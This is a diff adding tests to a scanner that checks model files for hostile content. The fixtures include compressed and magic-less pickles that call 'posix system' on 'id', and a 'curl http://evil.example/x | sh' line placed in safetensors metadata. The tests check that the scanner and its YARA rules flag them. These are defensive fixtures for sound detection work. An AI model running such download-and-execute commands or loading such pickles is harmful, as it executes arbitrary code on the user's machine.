@@ -432,6 +432,73 @@ def inspect_lists_imports_with_safety(d):
     eq((imp["global"], imp["safety"], imp["member"]), ("os.system", "critical", "m/data.pkl"), "import")
 
 
+@test
+def wrappers_archives_and_magicless_pickles(d):
+    import bz2
+    import io
+    import lzma
+    import tarfile
+    files = {
+        "a.pkl.bz2": bz2.compress(OS_SYSTEM),
+        "a.pkl.xz": lzma.compress(OS_SYSTEM),
+        "p0.bin": b"(lp0\nI1\naI2\na" + b"cposix\nsystem\n(S'id'\ntR.",  # protocol 0, no magic
+    }
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
+        for name, data in (("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00."),
+                           ("pickle", OS_SYSTEM)):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    files["legacy.pt"] = buf.getvalue()
+    paths = [write(d, n, b) for n, b in files.items()]
+    code, doc, _ = scan_json(*paths)
+    eq(code, 1, "exit")
+    by = {os.path.basename(f["path"]): f for f in doc["files"]}
+    eq(by["a.pkl.bz2"]["format"], "bzip2", "bzip2")
+    eq(by["a.pkl.xz"]["format"], "xz", "xz")
+    eq(by["p0.bin"]["format"], "pickle", "protocol 0 found without magic")
+    eq(by["legacy.pt"]["format"], "pytorch-tar", "legacy torch tar")
+    for name, f in by.items():
+        crit = [x for x in f["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"]
+        if not crit:
+            raise AssertionError(f"{name}: {ids(f)}")
+    eq([x["member"] for x in by["legacy.pt"]["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"],
+       ["pickle"], "tar member named")
+    code, doc, _ = scan_json(os.path.join(os.path.dirname(REAL), "..", "archives", "data", "torch-legacy.tar"))
+    eq(code, 0, "a real legacy torch tar passes")
+    eq(ids(doc["files"][0]), ["MG-PK-PICKLE-FORMAT"], "one medium finding for all its streams")
+
+
+@test
+def yara_rules_default_custom_and_errors(d):
+    meta = st_bytes({"__metadata__": {"note": "curl http://evil.example/x | sh"},
+                     "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\x00")
+    p = write(d, "m.safetensors", meta)
+    code, doc, _ = scan_json(p)
+    eq(code, 1, "shipped rules reject a download-and-execute in metadata")
+    y = [x for x in doc["files"][0]["findings"] if x["id"].startswith("MG-YARA-")]
+    eq(y[0]["id"], "MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE", "rule id")
+    eq(y[0]["severity"], "critical", "severity from meta")
+    code, doc, _ = scan_json("--no-yara", p)
+    eq(code, 0, "--no-yara runs no rules")
+    rules = os.path.join(d, "rules")
+    os.makedirs(rules)
+    with open(os.path.join(rules, "house.yar"), "w") as f:
+        f.write('rule house_marker { meta: description = "house rule" severity = "medium" '
+                'strings: $a = "HOUSE-MARKER" condition: $a }\n')
+    q = write(d, "n.safetensors", st_bytes({"__metadata__": {"k": "HOUSE-MARKER"}}, b""))
+    code, doc, _ = scan_json("--yara-rules", rules, "--fail-on", "medium", q)
+    eq(code, 1, "custom rule applies")
+    eq([x["id"] for x in doc["files"][0]["findings"]], ["MG-YARA-HOUSE-MARKER"], "custom id")
+    with open(os.path.join(rules, "broken.yar"), "w") as f:
+        f.write("rule broken { condition: nope }\n")
+    code, out, err = run("scan", "--yara-rules", rules, q)
+    eq(code, 2, "a rule that does not compile: exit 2")
+    if "broken.yar:1" not in err:
+        raise AssertionError("the error names the file and line: " + err)
+
+
 def main():
     passed = failed = 0
     for t in TESTS:
